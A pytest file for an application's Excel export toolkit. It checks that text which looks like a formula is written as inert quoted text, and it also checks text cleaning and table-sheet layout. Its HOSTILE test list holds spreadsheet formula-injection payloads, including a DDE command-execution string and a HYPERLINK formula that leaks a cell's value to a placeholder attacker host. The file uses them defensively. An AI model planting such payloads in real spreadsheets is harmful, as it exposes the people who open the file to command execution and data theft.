"""The one Excel toolkit: no workbook the app writes carries a formula, whatever the text."""

import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from inspect_app import xlsx as kit

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "＝1+1",
]


def formula_cells(data: bytes) -> list[str]:
    """Every <f> element in every sheet of an .xlsx: what Excel would evaluate on opening."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            match
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_written_as_quoted_text(text):
    wb = Workbook()
    kit.write(wb.active, 1, 1, text)
    data = kit.to_bytes(wb)
    assert formula_cells(data) == []
    cell = load_workbook(io.BytesIO(data)).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize("text", HOSTILE)
def test_write_only_cells_are_never_formulas(text):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("data")
    ws.append([kit.cell(ws, text), kit.cell(ws, 42), kit.cell(ws, "plain")])
    data = kit.to_bytes(wb)
    assert formula_cells(data) == []
    assert [c.value for c in load_workbook(io.BytesIO(data))["data"][1]] == [text, 42, "plain"]


def test_the_detector_sees_a_formula_openpyxl_writes_by_default():
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    assert formula_cells(kit.to_bytes(wb)) == ["<f>1+1</f>"]


def test_only_the_toolkit_makes_workbooks():
    """Every workbook the app writes goes through the safe writer: no module but the toolkit
    creates openpyxl cells by hand."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1] / "inspect_app"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "xlsx.py" or path.parent != root
        for line in path.read_text(encoding="utf-8").splitlines()
        if re.search(r"\bws\.append\(|\.cell\(row=[^)]*value=|WriteOnlyCell\(", line)
        and "kit." not in line
    ]
    assert offenders == []


def test_clean_text_drops_what_xml_cannot_carry_and_keeps_emoji_and_rare_cjk():
    assert kit.clean_text("a\x01b\x1fc\x0bd\ud800e") == "abcde"
    assert kit.clean_text("tab\tline\nend🔒𠀀") == "tab\tline\nend🔒𠀀"


def test_clean_text_cuts_a_long_text_with_a_visible_marker():
    cut = kit.clean_text("🔒" * 20_000)  # 40,000 UTF-16 units
    assert cut.endswith("…[已截断]")
    assert len(cut.encode("utf-16-le")) // 2 <= kit.MAX_CELL_TEXT
    assert cut.startswith("🔒🔒") and "\ud83d" not in cut.removesuffix("…[已截断]")[-1]


def test_a_table_sheet_keeps_its_layout_in_write_only_mode():
    wb = Workbook(write_only=True)
    sheet = kit.TableSheet(
        wb,
        "台账",
        [kit.Column("编号", 10), kit.Column("描述", 40, "wrap"), kit.Column("比率", 8, "percent")],
    )
    sheet.row(("=1+1", "长\x01文本", 0.25))
    sheet.row(("A-2", True, None))
    sheet.close()
    data = kit.to_bytes(wb)
    assert formula_cells(data) == []
    ws = load_workbook(io.BytesIO(data))["台账"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:C3"
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToHeight == 0
    assert ws.column_dimensions["B"].width == 40
    assert [c.value for c in ws[2]] == ["=1+1", "长文本", 0.25]
    assert ws["B2"].alignment.wrap_text and ws["C2"].number_format == "0.0%"
    assert ws["B3"].value == "是"


def test_a_table_sheet_writes_each_kind_of_value_as_it_should():
    """The row writer binds values itself (once per column and type for dates): every kind
    comes back with its type and its column's style, text made safe in any column."""
    from datetime import date, datetime
    from decimal import Decimal

    from markupsafe import Markup

    wb = Workbook(write_only=True)
    sheet = kit.TableSheet(
        wb,
        "t",
        [
            kit.Column("plain", 10),
            kit.Column("wrap", 10, "wrap"),
            kit.Column("date", 10, "date"),
            kit.Column("percent", 10, "percent"),
        ],
    )
    sheet.row(("=1+1", "-2+3", date(2026, 3, 1), 0.5))
    sheet.row((Decimal("2.5"), date(2026, 3, 2), datetime(2026, 3, 2, 8, 30), Decimal("0.25")))
    sheet.row(("#N/A", Markup("=A1"), None, False))
    sheet.row(("a\x01b", "c\x0bd" + "e" * 40_000, "", 3))
    sheet.row(("only", "two"))
    sheet.row(("x", "y", date(2026, 3, 3), 0.75, "beyond the columns"))
    sheet.close()
    data = kit.to_bytes(wb)
    assert formula_cells(data) == []
    ws = load_workbook(io.BytesIO(data))["t"]
    a2, b2, c2, d2 = ws[2]
    assert (a2.value, a2.data_type, a2.quotePrefix, a2.alignment.wrap_text) == (
        "=1+1",
        "s",
        True,
        None,
    )
    assert (b2.value, b2.quotePrefix, b2.alignment.wrap_text) == ("-2+3", True, True)
    assert c2.value == datetime(2026, 3, 1) and c2.number_format == "yyyy-mm-dd"
    assert d2.value == 0.5 and d2.number_format == "0.0%" and not d2.quotePrefix
    a3, b3, c3, d3 = ws[3]
    assert a3.value == 2.5 and a3.data_type == "n"
    # A date in a column not made for dates is still a date (its style keeps the wrap).
    assert b3.is_date and b3.value == datetime(2026, 3, 2) and b3.alignment.wrap_text
    assert c3.value == datetime(2026, 3, 2, 8, 30) and c3.number_format == "yyyy-mm-dd"
    assert d3.value == 0.25 and d3.number_format == "0.0%"
    a4, b4, c4, d4 = ws[4]
    # Text that looks like an error value is text, not an error cell.
    assert (a4.value, a4.data_type) == ("#N/A", "s")
    assert (b4.value, b4.data_type, b4.quotePrefix) == ("=A1", "s", True)
    assert c4.value is None and d4.value == "否" and d4.number_format == "0.0%"
    a5, b5 = ws[5][:2]
    assert a5.value == "ab"
    assert b5.value.startswith("cde") and b5.value.endswith("…[已截断]")
    assert len(b5.value) <= kit.MAX_CELL_TEXT and b5.alignment.wrap_text
    assert ws["C5"].value is None and ws["D5"].value == 3
    assert [c.value for c in ws[6]] == ["only", "two", None, None]
    assert ws.max_column == 4 and ws["C7"].value == datetime(2026, 3, 3)
    assert ws.auto_filter.ref == "A1:D7"


def test_a_table_sheet_refuses_a_value_a_cell_cannot_hold():
    wb = Workbook(write_only=True)
    sheet = kit.TableSheet(wb, "t", [kit.Column("a", 10)])
    with pytest.raises(ValueError):
        sheet.row(({"not": "a cell value"},))
